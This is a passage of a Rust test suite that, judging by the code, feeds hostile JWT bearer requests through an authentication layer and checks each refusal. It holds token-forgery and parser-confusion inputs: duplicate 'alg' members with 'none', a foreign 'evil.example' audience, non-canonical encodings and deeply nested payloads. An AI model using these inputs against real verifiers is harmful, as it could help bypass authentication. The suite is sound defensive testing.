//! Hostile requests through the real layer, one table per class (the header, the
//! shape, the algorithm, key selection, the signature, identity, the audience,
//! time).
//!
//! Every case is one request to a real axum `Router` behind `SystemAuth::layer()`,
//! with a handler that counts its calls. For each case the suite checks the status,
//! the one `WWW-Authenticate` header (exact), the JSON body
//! `{"code":..,"message":..,"details":[]}`, the content type and `cache-control`,
//! that nothing of the token comes back in the answer, and that the handler ran
//! exactly when the token was accepted. The expected answer of each refusal is the
//! hand-written one of `cases::wire`. A class reports all its failing cases at once.
//!
//! The world is the one of the refusal table (`cases::World`): the verifier's clock
//! is fixed at `T` (a whole second), so every time boundary is exact: `exp` must be
//! after `T + 1`, `iat` at most `T + 1` and at least `T - 3600`, `nbf` at most
//! `T + 1` (ZITADEL's 1 s offset and 1 h age).

use std::{path::Path, sync::Arc, time::Duration};

use aws_lc_rs::hmac;
use axum::{
    body::Body,
    http::{HeaderValue, Request, header},
};
use base64::{
    Engine as _,
    engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD},
};
use serde_json::json;
use spki::der::Decode as _;
use zitadel_system_auth::{
    Algorithm, AuthError, SystemAuth,
    error::{AudienceHint, Claim, Malformed},
    testing::{KeyForm, TestKey, write_config},
};

/// A header member that carries or points at a key, `b64`, or a mistyped `kid`.
const REFUSED_HEADER: Expect = Refuse(AuthError::RefusedHeaderMember);
/// A payload member Go would read as a registered claim.
const AMBIGUOUS: Expect = Refuse(AuthError::Malformed(Malformed::AmbiguousClaimName));

// ---------------------------------------------------------------------------
// Cases and the runner
// ---------------------------------------------------------------------------

#[derive(Debug)]
enum Expect {
    /// 200 from the handler, which sees this user.
    AcceptAs(&'static str),
    /// Refused before the handler, answered as this error.
    Refuse(AuthError),
}

use Expect::Refuse;

use crate::cases::{
    self, AUD, EXP, HEADER, MAX_LEN, MAX_TIME, Outcome, T, USER, USER2, World, b64, claims_with,
    compact, hmac_token, js, keys, parts, signed, signed_bytes, signed_with, tb, unsigned, valid,
    with_header,
};

#[allow(non_upper_case_globals)]
const Accept: Expect = Expect::AcceptAs(USER);

struct Case {
    name: String,
    request: Request<Body>,
    expect: Expect,
    /// Text that must not come back in the answer (the token and its signature).
    secrets: Vec<String>,
}

fn secrets_of(token: &str) -> Vec<String> {
    let mut secrets = Vec::new();
    if token.len() >= 16 {
        secrets.push(token.to_owned());
    }
    if let Some(signature) = token.rsplit('.').next()
        && signature.len() >= 16
        && signature != token
    {
        secrets.push(signature.to_owned());
    }
    secrets
}

/// `GET /` with these `Authorization` values (appended, so several are possible).
fn with_authorization(values: Vec<HeaderValue>) -> Request<Body> {
    let mut request = Request::get("/").body(Body::empty()).expect("request");
    for value in values {
        request.headers_mut().append(header::AUTHORIZATION, value);
    }
    request
}

/// `Authorization: Bearer <token>`.
fn bearer(name: impl Into<String>, token: &str, expect: Expect) -> Case {
    auth_value(name, &format!("Bearer {token}"), expect)
}

/// `Authorization: <value>` (visible ASCII).
fn auth_value(name: impl Into<String>, value: &str, expect: Expect) -> Case {
    let header = HeaderValue::from_str(value).expect("a visible-ASCII header value");
    Case {
        name: name.into(),
        request: with_authorization(vec![header]),
        expect,
        secrets: secrets_of(value.strip_prefix("Bearer ").unwrap_or(value)),
    }
}

/// `Authorization: <bytes>` (any bytes a header value may hold).
fn auth_bytes(name: impl Into<String>, value: &[u8], expect: Expect) -> Case {
    let header = HeaderValue::from_bytes(value).expect("a valid header value");
    Case {
        name: name.into(),
        request: with_authorization(vec![header]),
        expect,
        secrets: Vec::new(),
    }
}

/// A request built by hand.
fn request(name: impl Into<String>, request: Request<Body>, expect: Expect) -> Case {
    Case {
        name: name.into(),
        request,
        expect,
        secrets: Vec::new(),
    }
}

/// Sends one case through the layer of `auth`; `Err` says what is wrong.
async fn check(auth: &SystemAuth, case: Case) -> Result<(), String> {
    let outcome = match &case.expect {
        Expect::AcceptAs(user) => Outcome::Accepted(user),
        Refuse(error) => Outcome::Refused(cases::wire(error)),
    };
    let problems = cases::judge(
        cases::app(auth, None),
        case.request,
        &outcome,
        &case.secrets,
    )
    .await;
    if problems.is_empty() {
        Ok(())
    } else {
        Err(format!(
            "- {}: expected {:?}; got {}",
            case.name,
            case.expect,
            problems.join("; ")
        ))
    }
}

/// Runs every case and reports all failures at once.
async fn run(class: &str, auth: &SystemAuth, cases: Vec<Case>) {
    let total = cases.len();
    let mut failures = Vec::new();
    for case in cases {
        if let Err(failure) = check(auth, case).await {
            failures.push(failure);
        }
    }
    eprintln!("{class}: {total} cases, {} failed", failures.len());
    assert!(
        failures.is_empty(),
        "{class}: {} of {total} cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

// ---------------------------------------------------------------------------
// Token helpers
// ---------------------------------------------------------------------------

fn b64_len(bytes: usize) -> usize {
    (bytes * 4).div_ceil(3)
}

/// The same base64url segment with a non-zero unused trailing bit (decodes to the
/// same bytes under a lenient decoder, and is not canonical).
fn noncanonical(segment: &str) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    assert_ne!(segment.len() % 4, 0, "the segment has no trailing bits");
    assert_ne!(segment.len() % 4, 1);
    let last = *segment.as_bytes().last().expect("non-empty");
    let index = ALPHABET.iter().position(|&c| c == last).expect("base64url");
    assert_eq!(
        index & 1,
        0,
        "a canonical last character has its low bit clear"
    );
    let mut changed = segment[..segment.len() - 1].to_owned();
    changed.push(ALPHABET[index | 1] as char);
    assert_eq!(
        base64::engine::GeneralPurpose::new(
            &base64::alphabet::URL_SAFE,
            base64::engine::GeneralPurposeConfig::new()
                .with_encode_padding(false)
                .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent)
                .with_decode_allow_trailing_bits(true),
        )
        .decode(&changed)
        .expect("a lenient decoder reads it"),
        URL_SAFE_NO_PAD.decode(segment).expect("canonical"),
    );
    changed
}

/// A JSON text made by `make(n)` whose length is `≡ remainder (mod 3)`, so its
/// base64url has trailing bits and needs padding.
fn json_with_len_mod3(remainder: usize, make: impl Fn(usize) -> String) -> String {
    (0..3)
        .map(&make)
        .find(|text| text.len() % 3 == remainder)
        .expect("one of three lengths fits")
}

/// A JSON text made by `make(n)` whose base64url holds `-` or `_`, so the standard
/// alphabet writes it differently.
fn json_with_url_only_chars(make: impl Fn(usize) -> String) -> String {
    (0..64)
        .map(&make)
        .find(|text| b64(text).contains(['-', '_']))
        .expect("some padding gives - or _")
}

/// A valid token signed by the user whose total length is exactly `len`, made by
/// padding a claim and the `kid` header.
fn valid_of_length(len: usize) -> String {
    let sig_len = b64_len(256);
    for kid in 0..3 {
        let header = format!(
            r#"{{"alg":"RS256","typ":"JWT","kid":"{}"}}"#,
            "k".repeat(kid)
        );
        for pad in 0..len {
            let payload = claims_with(&[("pad", Some(&js(&"p".repeat(pad))))]);
            let total = b64_len(header.len()) + 1 + b64_len(payload.len()) + 1 + sig_len;
            if total == len {
                let token = keys().user.sign_raw(Algorithm::RS256, &header, &payload);
                assert_eq!(token.len(), len);
                return token;
            }
            if total > len {
                break;
            }
        }
    }
    panic!("no valid token of length {len}");
}

/// The RSA modulus and exponent of `key`, big-endian.
fn modulus_and_exponent(key: &TestKey) -> (Vec<u8>, Vec<u8>) {
    let der = key.public_der();
    let info = spki::SubjectPublicKeyInfoRef::from_der(&der).expect("SPKI");
    let rsa = pkcs1::RsaPublicKey::<pkcs1::UintRef>::from_der(info.subject_public_key.raw_bytes())
        .expect("PKCS#1");
    (
        rsa.modulus.as_bytes().to_vec(),
        rsa.public_exponent.as_bytes().to_vec(),
    )
}

/// A self-signed certificate for `key` (DER), made by `openssl`, or the bare SPKI
/// when `openssl` is not there (the crate must ignore `x5c` either way).
fn certificate_der(key: &TestKey, dir: &Path) -> Vec<u8> {
    let private = dir.join("attacker-cert-key.pem");
    let out = dir.join("attacker-cert.der");
    std::fs::write(&private, key.private_pem()).expect("write key");
    let made = std::process::Command::new("openssl")
        .args(["req", "-x509", "-new", "-key"])
        .arg(&private)
        .args([
            "-subj",
            "/CN=system-user-1",
            "-days",
            "1",
            "-outform",
            "DER",
            "-out",
        ])
        .arg(&out)
        .output()
        .is_ok_and(|o| o.status.success());
    if made {
        std::fs::read(&out).expect("read certificate")
    } else {
        key.public_der()
    }
}

fn invalid_sig() -> Expect {
    Refuse(AuthError::InvalidSignature)
}

fn malformed(what: Malformed) -> Expect {
    Refuse(AuthError::Malformed(what))
}

fn audience(hint: AudienceHint) -> Expect {
    Refuse(AuthError::AudienceMismatch {
        expected: Arc::from(AUD),
        hint,
    })
}

// ---------------------------------------------------------------------------
// Control
// ---------------------------------------------------------------------------

#[tokio::test]
async fn control_valid_tokens_reach_the_handler() {
    let world = World::new();
    let k = keys();
    let cases = vec![
        bearer("valid RS256", &valid(), Accept),
        bearer(
            "valid PS256",
            &tb(&k.user).algorithm(Algorithm::PS256).build(),
            Accept,
        ),
        bearer(
            "valid, encoded by jsonwebtoken",
            &tb(&k.user).build_with_jsonwebtoken(),
            Accept,
        ),
        bearer(
            "valid second user",
            &k.user2
                .token(USER2, AUD)
                .claim("iat", T)
                .claim("exp", EXP)
                .build(),
            Expect::AcceptAs(USER2),
        ),
        // The same token again (answered from the cache).
        bearer("valid RS256 again", &valid(), Accept),
    ];
    run("control", &world.auth, cases).await;
}

// ---------------------------------------------------------------------------
// The header
// ---------------------------------------------------------------------------

#[tokio::test]
async fn header_cases() {
    let world = World::new();
    let token = valid();
    let missing = || Refuse(AuthError::MissingToken);
    let multiple = || Refuse(AuthError::MultipleAuthorizationHeaders);
    let too_long = || Refuse(AuthError::TokenTooLong { limit: MAX_LEN });
    let hv = |s: &str| HeaderValue::from_str(s).expect("header value");
    let cases = vec![
        // Missing, and other places a token might be looked for.
        request(
            "no Authorization header",
            Request::get("/").body(Body::empty()).unwrap(),
            missing(),
        ),
        request(
            "token in the query string only",
            Request::get(format!("/?access_token={token}"))
                .body(Body::empty())
                .unwrap(),
            missing(),
        ),
        request(
            "token in Proxy-Authorization only",
            Request::get("/")
                .header(header::PROXY_AUTHORIZATION, format!("Bearer {token}"))
                .body(Body::empty())
                .unwrap(),
            missing(),
        ),
        request(
            "token in a cookie only",
            Request::get("/")
                .header(header::COOKIE, format!("access_token={token}"))
                .body(Body::empty())
                .unwrap(),
            missing(),
        ),
        auth_value("empty header value", "", missing()),
        // Other schemes.
        auth_value(
            "Basic credentials",
            "Basic c3lzdGVtLXVzZXItMTpwdw==",
            missing(),
        ),
        auth_value("Basic with the token", &format!("Basic {token}"), missing()),
        auth_value("Token scheme", &format!("Token {token}"), missing()),
        auth_value("JWT scheme", &format!("JWT {token}"), missing()),
        auth_value("DPoP scheme", &format!("DPoP {token}"), missing()),
        auth_value("Negotiate scheme", "Negotiate YIIB", missing()),
        auth_value("Digest credentials", "Digest username=\"x\"", missing()),
        auth_value("the token without a scheme", &token, missing()),
        auth_value(
            "Bearer: with a colon",
            &format!("Bearer:{token}"),
            missing(),
        ),
        auth_value(
            "Bearer= with an equals sign",
            &format!("Bearer={token}"),
            missing(),
        ),
        auth_value("Bearerx scheme", &format!("Bearerx {token}"), missing()),
        auth_value(
            "Bearer glued to the token",
            &format!("Bearer{token}"),
            missing(),
        ),
        auth_value("Bearer and a comma", &format!("Bearer,{token}"), missing()),
        auth_value("Bear scheme", &format!("Bear {token}"), missing()),
        // Text before `Bearer ` (ZITADEL's split on "Bearer " accepts these).
        auth_value(
            "Basic before Bearer",
            &format!("Basic Bearer {token}"),
            missing(),
        ),
        auth_value(
            "a word before Bearer",
            &format!("x Bearer {token}"),
            missing(),
        ),
        // Scheme case (RFC 9110: schemes are case-insensitive).
        auth_value("scheme lower case", &format!("bearer {token}"), Accept),
        auth_value("scheme upper case", &format!("BEARER {token}"), Accept),
        auth_value("scheme mixed case", &format!("bEaReR {token}"), Accept),
        // Spacing.
        auth_value(
            "two spaces after the scheme",
            &format!("Bearer  {token}"),
            Accept,
        ),
        auth_value(
            "many spaces after the scheme",
            &format!("Bearer{}{token}", " ".repeat(200)),
            Accept,
        ),
        auth_value(
            "a tab after the scheme",
            &format!("Bearer\t{token}"),
            missing(),
        ),
        auth_value(
            "space before the scheme",
            &format!(" Bearer {token}"),
            missing(),
        ),
        auth_value(
            "space after the token",
            &format!("Bearer {token} "),
            malformed(Malformed::SignatureBase64),
        ),
        auth_value(
            "tab after the token",
            &format!("Bearer {token}\t"),
            malformed(Malformed::SignatureBase64),
        ),
        auth_value(
            "a second word after the token",
            &format!("Bearer {token} extra"),
            malformed(Malformed::SignatureBase64),
        ),
        auth_value(
            "Bearer twice",
            &format!("Bearer Bearer {token}"),
            malformed(Malformed::HeaderBase64),
        ),
        auth_value(
            "two tokens in one header",
            &format!("Bearer {token}, Bearer {token}"),
            malformed(Malformed::Segments),
        ),
        // Empty token.
        auth_value("Bearer alone", "Bearer", malformed(Malformed::EmptyToken)),
        auth_value(
            "Bearer and a space",
            "Bearer ",
            malformed(Malformed::EmptyToken),
        ),
        auth_value(
            "Bearer and spaces",
            "Bearer     ",
            malformed(Malformed::EmptyToken),
        ),
        auth_value(
            "bearer lower case, empty",
            "bearer ",
            malformed(Malformed::EmptyToken),
        ),
        // Several Authorization headers.
        request(
            "two valid Authorization headers",
            with_authorization(vec![
                hv(&format!("Bearer {token}")),
                hv(&format!("Bearer {token}")),
            ]),
            multiple(),
        ),
        request(
            "a valid token and Basic",
            with_authorization(vec![
                hv(&format!("Bearer {token}")),
                hv("Basic dXNlcjpwdw=="),
            ]),
            multiple(),
        ),
        request(
            "Basic and then a valid token",
            with_authorization(vec![
                hv("Basic dXNlcjpwdw=="),
                hv(&format!("Bearer {token}")),
            ]),
            multiple(),
        ),
        request(
            "an empty header and a valid one",
            with_authorization(vec![hv(""), hv(&format!("Bearer {token}"))]),
            multiple(),
        ),
        request(
            "three headers",
            with_authorization(vec![
                hv(&format!("Bearer {token}")),
                hv("Bearer x"),
                hv("Bearer y"),
            ]),
            multiple(),
        ),
        request(
            "a non-ASCII header beside a valid one",
            with_authorization(vec![
                HeaderValue::from_bytes(b"Bearer \xff").unwrap(),
                hv(&format!("Bearer {token}")),
            ]),
            multiple(),
        ),
        // Non-ASCII values.
        auth_bytes(
            "obs-text byte in the token",
            &[format!("Bearer {token}").as_bytes(), b"\xff"].concat(),
            malformed(Malformed::HeaderEncoding),
        ),
        auth_bytes(
            "UTF-8 letter in the token",
            &[b"Bearer ".as_slice(), "é".as_bytes(), token.as_bytes()].concat(),
            malformed(Malformed::HeaderEncoding),
        ),
        auth_bytes(
            "no-break space (Latin-1) after the scheme",
            &[b"Bearer\xa0".as_slice(), token.as_bytes()].concat(),
            malformed(Malformed::HeaderEncoding),
        ),
        auth_bytes(
            "no-break space (UTF-8) after the scheme",
            &[b"Bearer\xc2\xa0".as_slice(), token.as_bytes()].concat(),
            malformed(Malformed::HeaderEncoding),
        ),
        auth_bytes(
            "non-ASCII scheme",
            &["Béarer ".as_bytes(), token.as_bytes()].concat(),
            malformed(Malformed::HeaderEncoding),
        ),
        auth_bytes(
            "Cyrillic look-alike in the token",
            &format!("Bearer {}", token.replacen('e', "е", 1)).into_bytes(),
            malformed(Malformed::HeaderEncoding),
        ),
        // Oversized values.
        auth_value(
            "token one byte over the cap",
            &format!("Bearer {}", "a".repeat(MAX_LEN + 1)),
            too_long(),
        ),
        auth_value(
            "1 MiB token",
            &format!("Bearer {}", "a.b.".repeat(256 * 1024)),
            too_long(),
        ),
        auth_value(
            "valid token followed by 8 KiB",
            &format!("Bearer {token}{}", "A".repeat(MAX_LEN)),
            too_long(),
        ),
        auth_bytes(
            "1 MiB of non-ASCII",
            &[b"Bearer ".as_slice(), &vec![0xffu8; 1 << 20]].concat(),
            malformed(Malformed::HeaderEncoding),
        ),
    ];
    run("header", &world.auth, cases).await;
}

// ---------------------------------------------------------------------------
// The shape
// ---------------------------------------------------------------------------

#[tokio::test]
async fn shape_cases() {
    let world = World::new();
    let token = valid();
    let (h, p, s) = parts(&token);
    let sig_bytes = URL_SAFE_NO_PAD.decode(s).unwrap();

    // Segments whose base64url has trailing bits (length ≢ 0 mod 3).
    let header_1 = json_with_len_mod3(1, |n| {
        format!(r#"{{"alg":"RS256","typ":"JWT","p":"{}"}}"#, "x".repeat(n))
    });
    let payload_1 = json_with_len_mod3(1, |n| claims_with(&[("p", Some(&js(&"x".repeat(n))))]));
    let payload_0 = json_with_len_mod3(0, |n| claims_with(&[("p", Some(&js(&"x".repeat(n))))]));
    let payload_2 = json_with_len_mod3(2, |n| claims_with(&[("p", Some(&js(&"x".repeat(n))))]));
    // Segments whose base64url holds - or _.
    let header_url = json_with_url_only_chars(|n| {
        format!(
            r#"{{"alg":"RS256","typ":"JWT","p":"{}"}}"#,
            "~".repeat(n + 1)
        )
    });
    let payload_url =
        json_with_url_only_chars(|n| claims_with(&[("p", Some(&js(&"~".repeat(n + 1))))]));
    // A signature whose base64url holds - or _.
    let url_sig_token = (0..100)
        .map(|n| signed_with(&[("n", Some(&n.to_string()))]))
        .find(|t| parts(t).2.contains(['-', '_']))
        .expect("some signature has - or _");
    let (uh, up, us) = parts(&url_sig_token);
    let us_std = STANDARD_NO_PAD.encode(URL_SAFE_NO_PAD.decode(us).unwrap());

    let deep_array = |depth: usize| format!("{}{}", "[".repeat(depth), "]".repeat(depth));
    let deep_object = |depth: usize| format!("{}1{}", r#"{"a":"#.repeat(depth), "}".repeat(depth));

    let cases = vec![
        // Wrong number of segments.
        bearer(
            "one segment",
            "abcdefghijklmnop",
            malformed(Malformed::Segments),
        ),
        bearer(
            "two segments",
            &format!("{h}.{p}"),
            malformed(Malformed::Segments),
        ),
        bearer(
            "four segments",
            &format!("{token}.{s}"),
            malformed(Malformed::Segments),
        ),
        bearer(
            "trailing dot",
            &format!("{token}."),
            malformed(Malformed::Segments),
        ),
        bearer(
            "leading dot",
            &format!(".{token}"),
            malformed(Malformed::Segments),
        ),
        bearer(
            "JWE compact (five segments)",
            &format!(
                "eyJhbGciOiJSU0EtT0FFUCIsImVuYyI6IkEyNTZHQ00ifQ.{s}.AAAAAAAAAAAAAAAA.{p}.AAAAAAAAAAAAAAAAAAAAAA"
            ),
            malformed(Malformed::Segments),
        ),
        bearer(
            "three empty segments",
            "..",
            malformed(Malformed::HeaderJson),
        ),
        bearer(
            "empty header segment",
            &format!(".{p}.{s}"),
            malformed(Malformed::HeaderJson),
        ),
        bearer(
            "empty payload segment",
            &compact(h, ""),
            malformed(Malformed::PayloadJson),
        ),
        // Padding.
        bearer(
            "padded header",
            &compact(&URL_SAFE.encode(&header_1), &b64(claims_with(&[]))),
            malformed(Malformed::HeaderBase64),
        ),
        bearer(
            "padded payload (==)",
            &compact(h, &URL_SAFE.encode(&payload_1)),
            malformed(Malformed::PayloadBase64),
        ),
        bearer(
            "padded payload (=)",
            &compact(h, &URL_SAFE.encode(&payload_2)),
            malformed(Malformed::PayloadBase64),
        ),
        bearer(
            "padded signature",
            &format!("{h}.{p}.{}", URL_SAFE.encode(&sig_bytes)),
            malformed(Malformed::SignatureBase64),
        ),
        bearer(
            "percent-encoded padding on the signature",
            &format!("{token}%3D%3D"),
            malformed(Malformed::SignatureBase64),
        ),
        // Non-canonical base64url.
        bearer(
            "header with non-zero trailing bits",
            &compact(&noncanonical(&b64(&header_1)), &b64(claims_with(&[]))),
            malformed(Malformed::HeaderBase64),
        ),
        bearer(
            "payload with non-zero trailing bits",
            &compact(h, &noncanonical(&b64(&payload_1))),
            malformed(Malformed::PayloadBase64),
        ),
        bearer(
            "signature with non-zero trailing bits",
            &format!("{h}.{p}.{}", noncanonical(s)),
            malformed(Malformed::SignatureBase64),
        ),
        bearer(
            "header in the standard alphabet",
            &compact(&STANDARD_NO_PAD.encode(&header_url), &b64(claims_with(&[]))),
            malformed(Malformed::HeaderBase64),
        ),
        bearer(
            "payload in the standard alphabet",
            &compact(h, &STANDARD_NO_PAD.encode(&payload_url)),
            malformed(Malformed::PayloadBase64),
        ),
        bearer(
            "signature in the standard alphabet",
            &format!("{uh}.{up}.{us_std}"),
            malformed(Malformed::SignatureBase64),
        ),
        bearer(
            "payload segment of impossible length (4n+1)",
            &compact(h, &format!("{}A", b64(&payload_0))),
            malformed(Malformed::PayloadBase64),
        ),
        bearer(
            "signature of impossible length (4n+1)",
            &format!("{h}.{p}.{s}AAA"),
            malformed(Malformed::SignatureBase64),
        ),
        bearer(
            "space inside the payload segment",
            &compact(h, &format!("{} {}", &p[..10], &p[10..])),
            malformed(Malformed::PayloadBase64),
        ),
        bearer(
            "payload base64-encoded twice",
            &compact(h, &b64(p)),
            malformed(Malformed::PayloadJson),
        ),
        // JSON serialisations instead of the compact form.
        bearer(
            "flattened JWS JSON serialisation",
            &format!(r#"{{"payload":"{p}","protected":"{h}","signature":"{s}"}}"#),
            malformed(Malformed::Segments),
        ),
        bearer(
            "general JWS JSON serialisation",
            &format!(
                r#"{{"payload":"{p}","signatures":[{{"protected":"{h}","signature":"{s}"}}]}}"#
            ),
            malformed(Malformed::Segments),
        ),
        bearer(
            "JSON serialisation with spaces",
            &format!(r#"{{ "payload": "{p}", "protected": "{h}", "signature": "{s}" }}"#),
            malformed(Malformed::Segments),
        ),
        bearer(
            "JSON serialisation with exactly two dots",
            &format!(
                r#"{{"header":{{"kid":"a.b.c"}},"payload":"{p}","protected":"{h}","signature":"{s}"}}"#
            ),
            malformed(Malformed::HeaderBase64),
        ),
        bearer(
            "JSON serialisation, base64url-encoded",
            &b64(format!(
                r#"{{"payload":"{p}","protected":"{h}","signature":"{s}"}}"#
            )),
            malformed(Malformed::Segments),
        ),
        // The header is not a JSON object with a string alg.
        bearer(
            "header is an array",
            &signed_bytes(br#"[{"alg":"RS256"}]"#, claims_with(&[]).as_bytes()),
            malformed(Malformed::HeaderJson),
        ),
        bearer(
            "header is a string",
            &signed_bytes(br#""RS256""#, claims_with(&[]).as_bytes()),
            malformed(Malformed::HeaderJson),
        ),
        bearer(
            "header is null",
            &signed_bytes(b"null", claims_with(&[]).as_bytes()),
            malformed(Malformed::HeaderJson),
        ),
        bearer(
            "header without alg",
            &with_header(r#"{"typ":"JWT"}"#),
            malformed(Malformed::HeaderJson),
        ),
        bearer(
            "header alg null",
            &with_header(r#"{"alg":null}"#),
            malformed(Malformed::HeaderJson),
        ),
        bearer(
            "header alg a number",
            &with_header(r#"{"alg":256}"#),
            malformed(Malformed::HeaderJson),
        ),
        bearer(
            "header alg an array",
            &with_header(r#"{"alg":["RS256"]}"#),
            malformed(Malformed::HeaderJson),
        ),
        bearer(
            "header with trailing text",
            &with_header(r#"{"alg":"RS256"}x"#),
            malformed(Malformed::HeaderJson),
        ),
        // Payloads that are not a JSON object.
        bearer(
            "payload is an array of the claims",
            &signed(&format!("[{}]", claims_with(&[]))),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload is an empty array",
            &signed("[]"),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload is a string",
            &signed(&js(USER)),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload is a number",
            &signed("1700000000"),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload is null",
            &signed("null"),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload is true",
            &signed("true"),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload is empty",
            &signed(""),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload is only spaces",
            &signed("   "),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload with trailing text",
            &signed(&format!("{}x", claims_with(&[]))),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload of two objects",
            &signed(&format!("{}{}", claims_with(&[]), claims_with(&[]))),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload with a byte-order mark",
            &signed(&format!("\u{feff}{}", claims_with(&[]))),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload with a trailing NUL",
            &signed(&format!("{}\u{0}", claims_with(&[]))),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload is a nested JWT (cty JWT)",
            &keys()
                .user
                .sign_raw(Algorithm::RS256, r#"{"alg":"RS256","cty":"JWT"}"#, &valid()),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload is unterminated",
            &signed(&claims_with(&[])[..40]),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload with a comment",
            &signed(&format!("/* x */{}", claims_with(&[]))),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload with single quotes",
            &signed(&claims_with(&[]).replace('"', "'")),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload with a trailing comma",
            &signed(&format!("{},}}", claims_with(&[]).trim_end_matches('}'))),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "exp NaN",
            &signed_with(&[("exp", Some("NaN"))]),
            malformed(Malformed::PayloadJson),
        ),
        // Invalid UTF-8.
        bearer(
            "payload with a 0xFF byte in a string",
            &signed_bytes(
                HEADER.as_bytes(),
                &[
                    claims_with(&[]).trim_end_matches('}').as_bytes(),
                    b",\"x\":\"\xff\"}",
                ]
                .concat(),
            ),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload with an overlong encoding",
            &signed_bytes(
                HEADER.as_bytes(),
                &[
                    claims_with(&[]).trim_end_matches('}').as_bytes(),
                    b",\"x\":\"\xc0\xaf\"}",
                ]
                .concat(),
            ),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload with a UTF-8-encoded surrogate",
            &signed_bytes(
                HEADER.as_bytes(),
                &[
                    claims_with(&[]).trim_end_matches('}').as_bytes(),
                    b",\"x\":\"\xed\xa0\x80\"}",
                ]
                .concat(),
            ),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload with invalid UTF-8 in the iss value",
            &signed_bytes(
                HEADER.as_bytes(),
                &[
                    b"{\"iss\":\"system-user-1\xff\",\"sub\":\"system-user-1\xff\",".as_slice(),
                    &claims_with(&[("iss", None), ("sub", None)]).as_bytes()[1..],
                ]
                .concat(),
            ),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload with a lone surrogate escape",
            &signed_with(&[("x", Some(r#""\ud800""#))]),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "payload in UTF-16",
            &signed_bytes(
                HEADER.as_bytes(),
                &claims_with(&[])
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes)
                    .collect::<Vec<u8>>(),
            ),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "header with a 0xFF byte",
            &signed_bytes(
                b"{\"alg\":\"RS256\",\"x\":\"\xff\"}",
                claims_with(&[]).as_bytes(),
            ),
            malformed(Malformed::HeaderJson),
        ),
        // Duplicate member names.
        bearer(
            "iss twice (same value)",
            &signed(&format!(
                "{{\"iss\":{u},{}",
                &claims_with(&[])[1..],
                u = js(USER)
            )),
            malformed(Malformed::DuplicateMember),
        ),
        bearer(
            "exp twice (expired, then valid)",
            &signed(&format!("{{\"exp\":{},{}", T - 10, &claims_with(&[])[1..])),
            malformed(Malformed::DuplicateMember),
        ),
        bearer(
            "aud twice (other, then expected)",
            &signed(&format!(
                "{{\"aud\":\"https://evil.example\",{}",
                &claims_with(&[])[1..]
            )),
            malformed(Malformed::DuplicateMember),
        ),
        bearer(
            "sub twice (other user, then same)",
            &signed(&format!(
                "{{\"sub\":{},{}",
                js(USER2),
                &claims_with(&[])[1..]
            )),
            malformed(Malformed::DuplicateMember),
        ),
        bearer(
            "unknown member twice",
            &signed(&format!("{{\"x\":1,\"x\":2,{}", &claims_with(&[])[1..])),
            malformed(Malformed::DuplicateMember),
        ),
        bearer(
            "iss twice, once escaped",
            &signed(&format!(
                "{{\"\\u0069ss\":{},{}",
                js(USER),
                &claims_with(&[])[1..]
            )),
            malformed(Malformed::DuplicateMember),
        ),
        bearer(
            "alg twice in the header (none, then RS256)",
            &with_header(r#"{"alg":"none","alg":"RS256","typ":"JWT"}"#),
            malformed(Malformed::DuplicateMember),
        ),
        bearer(
            "typ twice in the header",
            &with_header(r#"{"alg":"RS256","typ":"JWT","typ":"JOSE"}"#),
            malformed(Malformed::DuplicateMember),
        ),
        bearer(
            "crit twice in the header",
            &with_header(r#"{"alg":"RS256","crit":["x"],"crit":["y"]}"#),
            malformed(Malformed::DuplicateMember),
        ),
        // Deep nesting: 64 levels at most, arrays and objects alike (the payload
        // itself is level 1, so a claim's value may nest 63 deep).
        bearer(
            "payload nested 200 arrays deep",
            &signed_with(&[("x", Some(&deep_array(200)))]),
            malformed(Malformed::NestingTooDeep),
        ),
        bearer(
            "payload nested 2000 arrays deep",
            &signed_with(&[("x", Some(&deep_array(2000)))]),
            malformed(Malformed::NestingTooDeep),
        ),
        bearer(
            "payload nested 200 objects deep",
            &signed_with(&[("x", Some(&deep_object(200)))]),
            malformed(Malformed::NestingTooDeep),
        ),
        bearer(
            "payload nested 900 objects deep",
            &signed_with(&[("x", Some(&deep_object(900)))]),
            malformed(Malformed::NestingTooDeep),
        ),
        bearer(
            "arrays 200 deep inside an object",
            &signed_with(&[("x", Some(&format!("{{\"a\":{}}}", deep_array(200))))]),
            malformed(Malformed::NestingTooDeep),
        ),
        bearer(
            "header nested 200 objects deep",
            &with_header(&format!(r#"{{"alg":"RS256","x":{}}}"#, deep_object(200))),
            malformed(Malformed::NestingTooDeep),
        ),
        bearer(
            "a claim nested 63 arrays deep (64 levels in all)",
            &signed_with(&[("x", Some(&deep_array(63)))]),
            Accept,
        ),
        bearer(
            "a claim nested 63 objects deep (64 levels in all)",
            &signed_with(&[("x", Some(&deep_object(63)))]),
            Accept,
        ),
        bearer(
            "a claim nested 64 arrays deep (65 levels)",
